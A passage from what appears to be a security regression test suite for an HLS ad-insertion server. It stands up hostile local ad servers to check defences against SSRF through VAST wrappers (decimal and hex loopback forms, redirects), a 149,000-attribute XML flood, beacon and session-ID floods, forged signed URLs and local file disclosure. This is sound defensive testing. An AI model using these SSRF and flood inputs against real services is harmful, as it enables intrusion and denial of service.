    threading.Thread(target=ads.serve_forever, daemon=True).start()
    port = free_port()
    config = base_config(port, os.path.join(workdir, "beacons.sqlite"),
                         {"beaconsPerAddress": 20, "beaconsPerViewer": 5})
    config["vod"][0]["adServer"] = {"vast": ads.origin + "/vast?cb=[CACHEBUSTING]", "tracking": "relay"}
    config["seed"]["breaks"] = [{"id": "pre", "target": "vod/demo", "cue": ["PRE"], "duration": 6}]
    config["creativeCache"] = None
    # The ad server is on loopback, which ad-server fetches refuse unless allowed.
    config["adServerFetch"] = {"allow": [f"127.0.0.1:{ads.server_address[1]}"]}
    server = Server(hlsi, config, workdir, "beacons")
    try:
        check("the admin token is weak" in server.read_log(), "a short admin token is warned about at start")
        urls = relay_urls(server.base, "victim")
        check(len(urls) == 1, f"the asset list carries a relay URL ({urls})")
        if not urls:
            return
        parts = urls[0][len("/beacon/"):].split("/")
        check(len(parts) == 4 and parts[2].isdigit() and int(parts[2]) > time.time(),
              f"the URL carries its expiry ({urls[0][:80]})")
        # The old key was SHA-256("hlsi beacon relay\n" + token): a guess of the token no longer verifies.
        old_key = hashlib.sha256(b"hlsi beacon relay\n" + TOKEN.encode()).digest()
        guesses = [hmac.new(old_key, m.encode(), hashlib.sha256).hexdigest()[:32]
                   for m in ("\n".join(parts[1:]), parts[1] + "\n" + parts[3])]
        check(parts[0] not in guesses, "the MAC is not keyed by the admin token (no offline oracle)")
        viewer = base64.urlsafe_b64decode(parts[3] + "=" * (-len(parts[3]) % 4)).split(b"\n")[0]
        check(viewer == b"victim", "the payload names the viewer")
        # A forged expiry does not verify.
        forged = "/beacon/" + "/".join([parts[0], parts[1], str(int(parts[2]) + 86400), parts[3]])
        check(request(server.base, "GET", forged)[0] == 404, "a URL with a later expiry written in is a 404")
        # The flood: one client asks asset lists under many viewer IDs and fires every signed URL,
        # within one budget minute (budgets count per minute of the clock: start early in one).
        if time.time() % 60 > 40:
            time.sleep(61 - time.time() % 60)
        statuses = {}
        for index in range(60):
            for url in relay_urls(server.base, f"minted-{index}"):
                status = request(server.base, "GET", url)[0]
                statuses[status] = statuses.get(status, 0) + 1
        check(statuses.get(204, 0) == 20 and statuses.get(429, 0) == 40,
              f"the flood stops at the address's budget: 20 passed on, 40 refused with 429 ({statuses})")
        # Another viewer from another address (loopback is a trusted proxy: X-Forwarded-For counts).
        other = {"X-Forwarded-For": "198.51.100.23"}
        check(request(server.base, "GET", urls[0], headers=other)[0] == 204, "another client's beacon is passed on")
        check(request(server.base, "GET", urls[0], headers=other)[0] == 204, "a repeat is answered")
        status, _, metrics = request(server.base, "GET", "/metrics", headers={"Authorization": f"Bearer {TOKEN}"})
        text = metrics.decode()
        check('hlsi_beacons_dropped_total{reason="budget"} 40' in text, "the refused beacons are counted")
        check('hlsi_beacons_dropped_total{reason="repeated"} 1' in text, "the repeat is counted, not passed on")
        deadline = time.time() + 20
        while time.time() < deadline and len(ads.beacons) < 21:
            time.sleep(0.2)
        impressions = [b for b in ads.beacons if b == "/t/impression"]
        check(len(impressions) == 21, f"exactly the 21 beacons within budget reached the ad server ({len(impressions)})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


def conditioning_attacks(hlsi, workdir):
    # Issue 37, item 6: local file disclosure through creative conditioning.
    print("15. creative conditioning: a playlist posing as an MP4", flush=True)
    if not shutil.which("ffmpeg") or not shutil.which("ffprobe"):
        print("       skipped: ffmpeg and ffprobe are needed (apt-get install ffmpeg)")
        return
    secret = os.path.join(workdir, "private-video.ts")
    subprocess.run(["ffmpeg", "-nostdin", "-loglevel", "error", "-y", "-f", "lavfi", "-i",
                    "testsrc=size=64x48:rate=10", "-t", "1", "-c:v", "libx264", "-f", "mpegts", secret],
                   check=True, timeout=120)
    ads = AdServer(secret)
    threading.Thread(target=ads.serve_forever, daemon=True).start()
    port = free_port()
    cache = os.path.join(workdir, "creatives")
    config = base_config(port, os.path.join(workdir, "conditioning.sqlite"))
    config["vod"][0]["adServer"] = {"vast": ads.origin + "/mp4"}
    config["seed"]["breaks"] = [{"id": "pre", "target": "vod/demo", "cue": ["PRE"], "duration": 6}]
    config["creativeCache"] = cache
    config["adServerFetch"] = {"allow": [f"127.0.0.1:{ads.server_address[1]}"]}
    server = Server(hlsi, config, workdir, "conditioning")
    try:
        request(server.base, "GET", "/demo/vod/asset-list.json?_HLS_interstitial_id=pre&_HLS_primary_id=v")
        deadline = time.time() + 60
        while time.time() < deadline and "cannot condition the creative" not in server.read_log():
            time.sleep(0.2)
        reason = [line for line in server.read_log().splitlines() if "cannot condition the creative" in line]
        check(bool(reason) and ("moov atom not found" in reason[0] or "refused" in reason[0]),
              f"the creative is refused by the MP4-only probe ({reason[:1]})")
        published = [name for name in os.listdir(cache) if not name.startswith(".")] if os.path.isdir(cache) else []
        check(not published, f"nothing is published under /creatives/ ({published})")
        _, _, body = request(server.base, "GET", "/demo/vod/asset-list.json?_HLS_interstitial_id=pre&_HLS_primary_id=w")
        check(b"/creatives/" not in body, "no asset list names a conditioned creative")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


class HostileAdServer(http.server.ThreadingHTTPServer):
    """A VAST ad server that tries to make the origin request its own network, or fan out.

    /ssrf: a pod of wrappers at the origin's admin API, the spy's port, a decimal-IP form of
    127.0.0.1 and /redirect (a 302 to the spy). /fan/...: 8 pod wrappers, each to /fan/.../N.
    Every request path is recorded; `spy` is another loopback port that must never be reached.
    """

    daemon_threads = True

    def __init__(self, address, admin_port, spy_port):
        self.admin_port, self.spy_port = admin_port, spy_port
        self.paths = []
        self.lock = threading.Lock()
        super().__init__(address, HostileAdServer.Handler)

    class Handler(QuietHandler):
        def do_GET(self):
            server = self.server
            path = self.path.split("?")[0]
            with server.lock:
                server.paths.append(path)
            if path == "/ssrf":
                targets = [f"http://127.0.0.1:{server.admin_port}/admin/v1/breaks",
                           f"http://127.0.0.1:{server.spy_port}/other-port",
                           f"http://2130706433:{server.spy_port}/decimal",
                           f"http://0x7f.1:{server.admin_port}/admin/v1/schedules",
                           f"http://127.0.0.1:{server.server_address[1]}/redirect"]
                self.vast(targets)
            elif path == "/redirect":
                self.send_response(302)
                self.send_header("Location", f"http://127.0.0.1:{server.spy_port}/redirected")
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif path.startswith("/fan"):
                self.vast([f"http://127.0.0.1:{server.server_address[1]}{path}/{n}" for n in range(8)])
            else:
                self.send_response(204)
                self.end_headers()

        def vast(self, targets):
            ads = "".join(
                f'<Ad id="w{n}" sequence="{n + 1}"><Wrapper allowMultipleAds="true"><AdSystem>x</AdSystem>'
                f"<VASTAdTagURI><![CDATA[{url}]]></VASTAdTagURI></Wrapper></Ad>" for n, url in enumerate(targets))
            self.answer(f'<VAST version="4.2">{ads}</VAST>'.encode(), "application/xml")


class Spy(http.server.ThreadingHTTPServer):
    """A loopback listener the origin must never reach; counts what it gets."""

    daemon_threads = True
    hits = 0

    class Handler(QuietHandler):
        def do_GET(self):
            type(self.server).hits += 1
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()


def ad_server_attacks(hlsi, workdir):
    print("16. ad servers: SSRF and wrapper fan-out", flush=True)
    port = free_port()
    spy = Spy(("127.0.0.1", 0), Spy.Handler)
    threading.Thread(target=spy.serve_forever, daemon=True).start()
    ads = HostileAdServer(("127.0.0.1", 0), port, spy.server_address[1])
    threading.Thread(target=ads.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{ads.server_address[1]}"
    config = base_config(port, os.path.join(workdir, "ads.sqlite"))
    config["adServerFetch"] = {"allow": [f"127.0.0.1:{ads.server_address[1]}"]}
    config["limits"] = {"adDecisionRequests": 32}
    config["assetListDeadline"] = 5
    primary = os.path.join(DEMO, "primary")
    config["vod"] = [
        {"id": "demo", "path": "/demo/vod", "directory": primary, "adServer": {"vast": origin + "/ssrf?cb=[CACHEBUSTING]"}},
        {"id": "fan", "path": "/fan/vod", "directory": primary, "adServer": {"vast": origin + "/fan?cb=[CACHEBUSTING]"}},
    ]
    server = Server(hlsi, config, workdir, "ads")
    try:
        for name in ("demo", "fan"):
            target = f"vod/{name}"
            status, _, body = admin(server.base, "POST", "/breaks",
                                    {"id": f"b-{name}", "target": target, "at": 10, "duration": 10})
            check(status in (200, 201), f"a break on {target} (got {status} {body[:200]!r})")
        status, _, body = request(server.base, "GET", "/demo/vod/asset-list.json?_HLS_interstitial_id=b-demo&_HLS_primary_id=v1")
        assets = json.loads(body).get("ASSETS") if status == 200 else None
        check(assets == [],
              f"wrappers at the admin API, other ports and decimal IPs give no ads (got {status} {body[:200]!r})")
        check(spy.hits == 0, f"another loopback port, in any form or by redirect, is never requested ({spy.hits})")
        check("/redirect" in ads.paths, "the redirect from the allowed ad server is followed to its check")
        log = server.read_log()
        refused = [line for line in log.splitlines() if "is refused" in line]
        check(any(f"127.0.0.1:{port}/admin/v1/breaks" in line and "loopback" in line for line in refused)
              and any("2130706433" in line for line in refused),
              "the refusals (the admin API, the decimal form) are logged with their reason")
        status, _, breaks = admin(server.base, "GET", "/breaks")
        check(status == 200 and b'"b-demo"' in breaks, "the admin API still answers, and no wrapper changed it")

        before = len(ads.paths)
        started = time.time()
        status, _, body = request(server.base, "GET", "/fan/vod/asset-list.json?_HLS_interstitial_id=b-fan&_HLS_primary_id=v2")
        made = len([p for p in ads.paths[before:] if p.startswith("/fan")])
        check(status == 200, f"a fanning-out wrapper tree still gets an answer (got {status})")
        check(9 <= made <= 32, f"a wrapper tree of 8 per level is followed, with at most 32 requests (made {made})")
        print(f"       ({made} requests in {time.time() - started:.1f} s)")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()
        spy.shutdown()


def attribute_flood():
    """The issue's VAST document: 149,000 attributes (3-byte names) on one <Ad>, 1,043,032 bytes."""
    first = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    rest = first + "0123456789_-"
    names = (a + b + c for a in first for b in rest for c in rest)
    attributes = "".join(f' {next(names)}=""' for _ in range(149_000))
    return ('<VAST version="4.2"><Ad' + attributes + "/></VAST>").encode()


class AttributeFloodAdServer(http.server.ThreadingHTTPServer):
    """A VAST ad server whose every answer is the attribute flood; counts the requests."""

    daemon_threads = True
    body = attribute_flood()
    requests = 0

    class Handler(QuietHandler):
        def do_GET(self):
            type(self.server).requests += 1
            self.answer(AttributeFloodAdServer.body, "application/xml")


def vast_attribute_flood(hlsi, workdir):
    print("17. a VAST document with 149,000 attributes on one element", flush=True)
    ads = AttributeFloodAdServer(("127.0.0.1", 0), AttributeFloodAdServer.Handler)
    threading.Thread(target=ads.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{ads.server_address[1]}"
    port = free_port()
    config = base_config(port, os.path.join(workdir, "flood.sqlite"), LIMITS)
    config["vod"][0]["adServer"] = {"vast": origin + "/vast?brk=[BREAKID]"}
    config["adServerFetch"] = {"allow": [f"127.0.0.1:{ads.server_address[1]}"]}
    server = Server(hlsi, config, workdir, "flood")
    try:
        status, _, body = admin(server.base, "POST", "/breaks",
                                {"id": "flood", "target": "vod/demo", "at": 10, "duration": 10})
        check(status == 201, f"a break on vod/demo is created (got {status} {body[:120]!r})")
        answers = []

        def asset_list(viewer):
            path = f"/demo/vod/asset-list.json?_HLS_interstitial_id=flood&_HLS_primary_id=v{viewer}"
            began = time.time()
            status, _, body = request(server.base, "GET", path, timeout=60)
            answers.append((status, body, time.time() - began))

        threads = [threading.Thread(target=asset_list, args=(viewer,)) for viewer in range(4)]
        for thread in threads:
            thread.start()
        began = time.time()
        status, _, _ = request(server.base, "GET", "/demo/live/video/main.m3u8", timeout=60)
        playlist_seconds = time.time() - began
        for thread in threads:
            thread.join(90)
        check(status == 200, f"a live playlist requested meanwhile is served (got {status})")
        lists = [json.loads(body) for (code, body, _) in answers if code == 200]
        check(len(lists) == 4 and all(isinstance(item.get("ASSETS"), list) for item in lists),
              f"the four asset lists are answered, empty or filled ({[code for (code, _, _) in answers]})")
        check(ads.requests >= 1, f"the hostile ad server was asked ({ads.requests} requests)")
        log = server.read_log()
        check("maximumAttributesPerElement" in log,
              "the document is refused by the XML pre-scan (vast-limit, maximumAttributesPerElement in the log)")
        slowest = max((seconds for (_, _, seconds) in answers), default=0)
        print(f"       (asset lists answered within {slowest:.1f} s, the playlist after {playlist_seconds:.1f} s; "
              f"the deadline is 1 s)")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


class HerdAdServer(http.server.ThreadingHTTPServer):
    """An ad server that answers 503 (`/fail`) or answers after 5 s (`/slow`); counts the requests."""

    daemon_threads = True

    def __init__(self, address, handler):
        super().__init__(address, handler)
        self.paths = []
        self.lock = threading.Lock()

    class Handler(QuietHandler):
        def do_GET(self):
            with self.server.lock:
                self.server.paths.append(self.path)
            if self.path.startswith("/slow"):
                time.sleep(5)
            body = b"<VAST version=\"4.2\"/>"
            self.send_response(503 if self.path.startswith("/fail") else 200)
            self.send_header("Content-Type", "application/xml")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            try:
                self.wfile.write(body)
            except (BrokenPipeError, ConnectionResetError):
                pass

    def count(self, prefix):
        with self.lock:
            return len([path for path in self.paths if path.startswith(prefix)])


def metric(base, prefix):
    """The value of the /metrics line starting with `prefix`, or None."""
    status, _, body = request(base, "GET", "/metrics", headers={"Authorization": f"Bearer {TOKEN}"})
    if status != 200:
        return None
    for line in body.decode().splitlines():
        if line.startswith(prefix + " "):
            return line[len(prefix) + 1:]
    return None


def herd_attacks(hlsi, workdir):
    print("18. a herd against a failing and a slow ad server: breaker, shedding, fallback", flush=True)
    # Two ad servers: a breaker is per ad server (scheme://host:port).
    failing = HerdAdServer(("127.0.0.1", 0), HerdAdServer.Handler)
    slow = HerdAdServer(("127.0.0.1", 0), HerdAdServer.Handler)
    for ads in (failing, slow):
        threading.Thread(target=ads.serve_forever, daemon=True).start()
    port = free_port()
    config = base_config(port, os.path.join(workdir, "herd.sqlite"), LIMITS)
    config["adServerFetch"] = {"allow": [f"127.0.0.1:{ads.server_address[1]}" for ads in (failing, slow)]}
    config["assetListDeadline"] = 1
    primary = os.path.join(DEMO, "primary")
    config["vod"] = [
        {"id": "fail", "path": "/fail/vod", "directory": primary,
         "adServer": {"vast": f"http://127.0.0.1:{failing.server_address[1]}/fail?cb=[CACHEBUSTING]",
                      "maxConcurrent": 2, "breaker": {"failures": 5, "window": 10, "coolDown": 600}}},
        {"id": "slow", "path": "/slow/vod", "directory": primary,
         "adServer": {"vast": f"http://127.0.0.1:{slow.server_address[1]}/slow?cb=[CACHEBUSTING]",
                      "maxConcurrent": 2}},
    ]
    server = Server(hlsi, config, workdir, "herd")
    try:
        for name in ("fail", "slow"):
            status, _, body = admin(server.base, "POST", "/breaks",
                                    {"id": f"h-{name}", "target": f"vod/{name}", "at": 10, "duration": 10})
            check(status in (200, 201), f"a break on vod/{name} (got {status} {body[:200]!r})")
        for name, viewers in (("fail", 60), ("slow", 20)):
            answers = []
            lock = threading.Lock()

            def asset_list(viewer, name=name, answers=answers, lock=lock):
                path = f"/{name}/vod/asset-list.json?_HLS_interstitial_id=h-{name}&_HLS_primary_id=v{viewer}"
                began = time.time()
                status, _, body = request(server.base, "GET", path, timeout=60)
                with lock:
                    answers.append((status, body, time.time() - began))

            threads = [threading.Thread(target=asset_list, args=(viewer,)) for viewer in range(viewers)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join(90)
            filled = [1 for (status, body, _) in answers if status == 200 and json.loads(body).get("ASSETS")]
            check(len(filled) == viewers,
                  f"{name}: every viewer gets the fallback fill ({len(filled)} of {viewers}, "
                  f"{sorted({status for (status, _, _) in answers})})")
            slowest = max((seconds for (_, _, seconds) in answers), default=0)
            ads = failing if name == "fail" else slow
            print(f"       ({name}: {ads.count('/' + name)} ad-server requests for {viewers} viewers, "
                  f"the slowest answer after {slowest:.1f} s; the deadline is 1 s)")
        made = failing.count("/fail")
        check(made <= 12, f"the failing ad server hears a few requests, not the herd ({made} for 60 viewers)")
        failing_key = f"http://127.0.0.1:{failing.server_address[1]}"
        state = metric(server.base, f'hlsi_ad_server_breaker_state{{ad_server="{failing_key}"}}')
        check(state is not None and float(state) == 2, f"/metrics shows the breaker open (got {state})")
        check(0 < slow.count("/slow") <= 10,
              f"the slow ad server hears at most half the herd ({slow.count('/slow')} of 20)")
        key = f"http://127.0.0.1:{slow.server_address[1]}"
        shed = metric(server.base, f'hlsi_ad_server_shed_total{{ad_server="{key}",reason="deadline"}}')
        check(shed is not None and int(shed) >= 10, f"/metrics counts the requests shed at the deadline (got {shed})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        failing.shutdown()
        slow.shutdown()


def session_flood(hlsi, workdir):
    # Issue 32, item 2 (and 5): the sessions kept for decisions made ahead are bounded. A flood of new
    # X-PLAYBACK-SESSION-ID values (and _HLS_primary_id ones) on the live playlist, over-long IDs and IDs
    # with bytes outside visible ASCII: the server keeps at most `prefetchSessions` sessions within
    # `prefetchSessionBytes`, ignores the bad IDs, and keeps serving.
    print("19. a flood of new viewer session IDs on a live channel with an ad server", flush=True)
    port = free_port()
    limits = dict(LIMITS, prefetchSessions=1000, prefetchSessionBytes=65536)
    config = base_config(port, os.path.join(workdir, "sessions.sqlite"), limits)
    config["live"][0]["adServer"] = {"vast": "http://127.0.0.1:9/vast?sid=[SESSIONID]"}
    server = Server(hlsi, config, workdir, "sessions")
    try:
        count = 6000
        errors = []

        def flood(first):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
            for index in range(first, count, 4):
                path = "/demo/live/video/main.m3u8"
                headers = {"X-PLAYBACK-SESSION-ID": f"flood-{index:08d}"}
                if index % 2:
                    path += f"?_HLS_primary_id=primary-{index:08d}"
                    headers = {}
                connection.request("GET", path, headers=headers)
                response = connection.getresponse()
                response.read()
                if response.status != 200:
                    errors.append(response.status)
            connection.close()

        threads = [threading.Thread(target=flood, args=(first,)) for first in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(120)
        check(not errors, f"every flooded playlist request is answered ({len(errors)} not)")
        for bad in ("x" * 300, "caf\u00e9".encode().decode("latin-1")):
            status, _, _ = request(server.base, "GET", "/demo/live/video/main.m3u8",
                                   headers={"X-PLAYBACK-SESSION-ID": bad})
            check(status == 200, f"a playlist with a bad session ID is still served (got {status})")
        sessions = None
        deadline = time.time() + 20
        while time.time() < deadline:
            sessions = metric(server.base, "hlsi_viewer_sessions")
            if sessions is not None and float(sessions) > 0:
                break
            time.sleep(0.2)
        held = metric(server.base, "hlsi_viewer_session_bytes")
        check(sessions is not None and 0 < float(sessions) <= 1000,
              f"at most prefetchSessions sessions are kept (got {sessions} of {count} flooded)")
        check(held is not None and float(held) <= 65536, f"within prefetchSessionBytes (got {held})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()


class DecisionAdServer(http.server.ThreadingHTTPServer):
    """An ad server for issue 42: one InLine HLS ad whose impression URL carries the X-Device-IP it
    heard; no ads for a bot's user agent; 400 to a user agent over 256 bytes (a strict nginx). Keeps
    each request's path and device headers."""

    daemon_threads = True

    def __init__(self, address, media):
        super().__init__(address, DecisionAdServer.Handler)
        self.media = media
        self.heard = []
        self.lock = threading.Lock()

    class Handler(QuietHandler):
        def do_GET(self):
            agent = self.headers.get("X-Device-User-Agent")
            address = self.headers.get("X-Device-IP")
            with self.server.lock:
                self.server.heard.append((self.path, agent, address))
            if agent is not None and len(agent.encode()) > 256:
                self.answer(b"header too large", "text/html", status=400)
                return
            if agent is not None and "bot" in agent.lower():
                self.answer(b'<VAST version="4.2"/>', "application/xml")
                return
            port = self.server.server_address[1]
            body = (f'<VAST version="4.2"><Ad id="a1"><InLine><AdSystem>e2e</AdSystem><AdTitle>a1</AdTitle>'
                    f'<Impression>http://127.0.0.1:{port}/imp?ip={address or "none"}</Impression>'
                    f'<Creatives><Creative><Linear><Duration>00:00:06</Duration><MediaFiles>'
                    f'<MediaFile delivery="streaming" type="application/x-mpegURL" width="640" height="360">'
                    f'{self.server.media}</MediaFile></MediaFiles></Linear></Creative></Creatives>'
                    f'</InLine></Ad></VAST>')
            self.answer(body.encode(), "application/xml")

    def requests(self, prefix="/vast"):
        with self.lock:
            return [entry for entry in self.heard if entry[0].startswith(prefix)]


def cadence_id(after):
    """The ID of the first cadence break of `base_config`'s live channel (every 60 s, 30 s in) after `after`."""
    base = 1767225600 + 30
    return f"break-{base + 60 * ((int(after) - base) // 60 + 1)}"


def decision_server(hlsi, workdir, name, vast, live=True, limits=None, ad_server=None, per_second=None):
    """A server whose live channel (or VOD asset) is filled by `vast`, allowed to reach the ad server."""
    port = free_port()
    config = base_config(port, os.path.join(workdir, f"{name}.sqlite"), limits or LIMITS)
    config["adServerFetch"] = {"allow": [f"127.0.0.1:{ad_server.server_address[1]}"]}
    config["assetListDeadline"] = 2
    entry = config["live"][0] if live else config["vod"][0]
    entry["adServer"] = {"vast": vast}
    if per_second:
        entry["adServer"]["maxPerSecond"] = per_second
    return Server(hlsi, config, workdir, name)


def decision_pair(hlsi, workdir, name, query, **options):
    """A DecisionAdServer on loopback and a server whose ad tag is its `/vast?QUERY` (options as
    decision_server's); the ad server's VAST names the server's ad1. Both are the caller's to stop."""
    ads = DecisionAdServer(("127.0.0.1", 0), "")
    threading.Thread(target=ads.serve_forever, daemon=True).start()
    vast = f"http://127.0.0.1:{ads.server_address[1]}/vast?{query}"
    server = decision_server(hlsi, workdir, name, vast, ad_server=ads, **options)
    ads.media = f"{server.base}/ads/ad1/master.m3u8"
    return ads, server


def ad_server_ads(body):
    """Whether an asset list holds the ad server's ad (not the inventory's fallback)."""
    try:
        assets = json.loads(body).get("ASSETS", [])
    except ValueError:
        return False
    # The inventory's lists carry no ad creative signaling; the ad server's do.
    return bool(assets) and all("X-AD-CREATIVE-SIGNALING" in asset for asset in assets)


def far_break_flood(hlsi, workdir):
    # Issue 42, item 1: cadence IDs are predictable; asset lists of breaks far ahead (and aliases of one
    # ID) were answered and their live decisions kept until those breaks end, filling the decisions kept:
    # 47/400 viewers of the next break got the ad server's ads. Now they are 404 and keep nothing.
    print("23. asset lists of cadence breaks a hundred years ahead, and aliases of a break's ID", flush=True)
    limits = dict(LIMITS, prefetchDecisions=100)
    ads, server = decision_pair(hlsi, workdir, "far-breaks", "sid=[SESSIONID]&brk=[BREAKID]", limits=limits)
    try:
        now = time.time()
        statuses = []
        lock = threading.Lock()

        def flood(first):
            for index in range(first, 1200, 4):
                ahead = 3600 + index * 86400 * 30  # an hour to a hundred years ahead
                path = (f"/demo/live/asset-list.json?_HLS_interstitial_id={cadence_id(now + ahead)}"
                        f"&_HLS_primary_id=flood-{index}")
                status, _, _ = request(server.base, "GET", path)
                with lock:
                    statuses.append(status)

        threads = [threading.Thread(target=flood, args=(first,)) for first in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(120)
        check(statuses and all(status == 404 for status in statuses),
              f"asset lists of breaks an hour to 100 years ahead are 404 ({sorted(set(statuses))})")
        far = [path for (path, _, _) in ads.requests() if "flood-" in path]
        check(not far, f"the ad server hears none of them ({len(far)} requests)")
        target = cadence_id(now + 60)
        seconds = target.removeprefix("break-")
        for alias in (f"break-0{seconds}", f"break-%2B{seconds}", f"break-00{seconds}"):
            status, _, _ = request(server.base, "GET",
                                   f"/demo/live/asset-list.json?_HLS_interstitial_id={alias}&_HLS_primary_id=v")
            check(status == 404, f"{alias} is no other name of {target} (got {status})")
        filled = 0
        for viewer in range(60):
            status, _, body = request(server.base, "GET",
                                      f"/demo/live/asset-list.json?_HLS_interstitial_id={target}"
                                      f"&_HLS_primary_id=viewer-{viewer}")
            filled += status == 200 and ad_server_ads(body)
        check(filled == 60, f"every viewer of the next break gets the ad server's ads ({filled} of 60)")
        kept = metric(server.base, "hlsi_prefetch_decisions")
        check(kept is not None and float(kept) <= 100, f"the decisions kept stay within prefetchDecisions ({kept})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


def cpu_seconds(pid):
    """The user and system CPU time of process `pid`, in seconds."""
    with open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def session_burst(hlsi, workdir):
    # Issue 42, item 2: 75,760 new session IDs in 2 s kept a core busy for over 3 minutes (the planner
    # copied every session queue on each decision). Now the burst is queued within what the ad server
    # can decide, each decision costs O(1), and the server is idle again right after the burst.
    print("24. a burst of new session IDs on a live channel decided ahead", flush=True)
    # Few decisions a second, so that what is left after the burst is the planner's own cost. Every
    # session seen is decided ahead here (`prefetchPlayingSpan` 0): one request each would otherwise
    # not be playing, and queue nothing for the planner to cost.
    ads, server = decision_pair(hlsi, workdir, "burst", "sid=[SESSIONID]&brk=[BREAKID]", per_second=20,
                                limits=dict(LIMITS, prefetchPlayingSpan=0))
    try:
        count = 20000
        errors = []

        def burst(first):
            connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
            for index in range(first, count, 8):
                connection.request("GET", "/demo/live/video/main.m3u8",
                                   headers={"X-PLAYBACK-SESSION-ID": f"burst-{index:08d}"})
                response = connection.getresponse()
                response.read()
                if response.status != 200:
                    errors.append(response.status)
            connection.close()

        began = time.time()
        threads = [threading.Thread(target=burst, args=(first,)) for first in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(120)
        print(f"       ({count} new sessions in {time.time() - began:.1f} s)")
        check(not errors, f"every playlist of the burst is answered ({len(errors)} not)")
        time.sleep(2)  # the planner takes the sessions in within a second
        before = cpu_seconds(server.process.pid)
        slowest = 0.0
        probes = []
        for _ in range(10):
            began = time.time()
            status, _, _ = request(server.base, "GET", "/demo/live/video/main.m3u8")
            slowest = max(slowest, time.time() - began)
            probes.append(status)
            time.sleep(0.5)
        check(all(status == 200 for status in probes), f"the live playlist is served after the burst ({probes})")
        used = cpu_seconds(server.process.pid) - before
        print(f"       (after the burst: {used:.2f} s of CPU in 5 s, the slowest playlist in {slowest:.2f} s)")
        check(used < 2.5, f"the server is not kept busy after the burst ({used:.2f} s of CPU in 5 s)")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


def large_user_agents(hlsi, workdir):
    # Issue 42, item 3: the viewer's User-Agent went to the ad server whole, and any non-2xx counted as
    # a failure: 22 asset lists with a 9 KB user agent against an ad server that answers 400 to large
    # headers opened its breaker, and 46 of 50 viewers got the slate. Now the field is cut to 512 bytes
    # and a 4xx is not the ad server's failure.
    print("25. a 9 KB user agent against an ad server that answers 400 to large headers", flush=True)
    ads, server = decision_pair(hlsi, workdir, "agents", "sid=[SESSIONID]&brk=[BREAKID]", live=False)
    try:
        status, _, body = admin(server.base, "POST", "/breaks",
                                {"id": "ua", "target": "vod/demo", "at": 10, "duration": 10})
        check(status in (200, 201), f"a break on vod/demo (got {status} {body[:200]!r})")
        agent = "Mozilla/5.0 " + "x" * 9 * 1024
        statuses = set()
        for viewer in range(40):
            status, _, _ = request(server.base, "GET",
                                   f"/demo/vod/asset-list.json?_HLS_interstitial_id=ua&_HLS_primary_id=a-{viewer}",
                                   headers={"User-Agent": agent})
            statuses.add(status)
        check(statuses == {200}, f"asset lists with a 9 KB user agent are answered ({sorted(statuses)})")
        heard = [len(agent.encode()) for (_, agent, _) in ads.requests() if agent]
        check(heard and max(heard) <= 512, f"the ad server hears at most 512 bytes of it (longest {max(heard or [0])})")
        key = f"http://127.0.0.1:{ads.server_address[1]}"
        state = metric(server.base, f'hlsi_ad_server_breaker_state{{ad_server="{key}"}}')
        check(state is not None and float(state) == 0, f"its 400 answers leave the breaker closed (got {state})")
        filled = 0
        for viewer in range(50):
            status, _, body = request(server.base, "GET",
                                      f"/demo/vod/asset-list.json?_HLS_interstitial_id=ua&_HLS_primary_id=v-{viewer}",
                                      headers={"User-Agent": "TestPlayer/1.0"})
            filled += status == 200 and ad_server_ads(body)
        check(filled == 50, f"the other viewers get the ad server's ads, not the slate ({filled} of 50)")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


def shared_tag_device(hlsi, workdir):
    # Issue 42, item 4: with a tag without per-viewer macros, the first live asker's decision, made with
    # its X-Device-User-Agent and X-Device-IP, was kept for the whole break: one bot request 2 minutes
    # early emptied the break for everyone, and its address appeared in everyone's tracking URLs.
    print("26. a bot asking a shared tag's break early", flush=True)
    ads, server = decision_pair(hlsi, workdir, "shared", "brk=[BREAKID]")
    try:
        target = cadence_id(time.time() + 90)
        time.sleep(1.5)  # the planner follows the break: a live decision for it is kept
        status, _, _ = request(server.base, "GET",
                               f"/demo/live/asset-list.json?_HLS_interstitial_id={target}&_HLS_primary_id=bot",
                               headers={"User-Agent": "Googlebot/2.1", "X-Forwarded-For": "203.0.113.66"})
        check(status == 200, f"the bot's asset list is answered (got {status})")
        filled = 0
        leaked = 0
        for viewer in range(20):
            status, _, body = request(server.base, "GET",
                                      f"/demo/live/asset-list.json?_HLS_interstitial_id={target}"
                                      f"&_HLS_primary_id=viewer-{viewer}",
                                      headers={"User-Agent": "TestPlayer/1.0", "X-Forwarded-For": f"198.51.100.{viewer}"})
            filled += status == 200 and ad_server_ads(body)
            leaked += b"203.0.113.66" in body
        check(filled == 20, f"every viewer gets the ad server's ads ({filled} of 20)")
        check(leaked == 0, f"the bot's address is in no viewer's tracking URLs ({leaked} of 20)")
        devices = [(agent, address) for (_, agent, address) in ads.requests() if agent or address]
        check(not devices, f"no X-Device-* field is sent for a shared tag ({devices[:3]})")
        check(server.alive(), "the server still serves")
    finally:
        server.stop()
        ads.shutdown()


def console_attacks(hlsi, workdir):
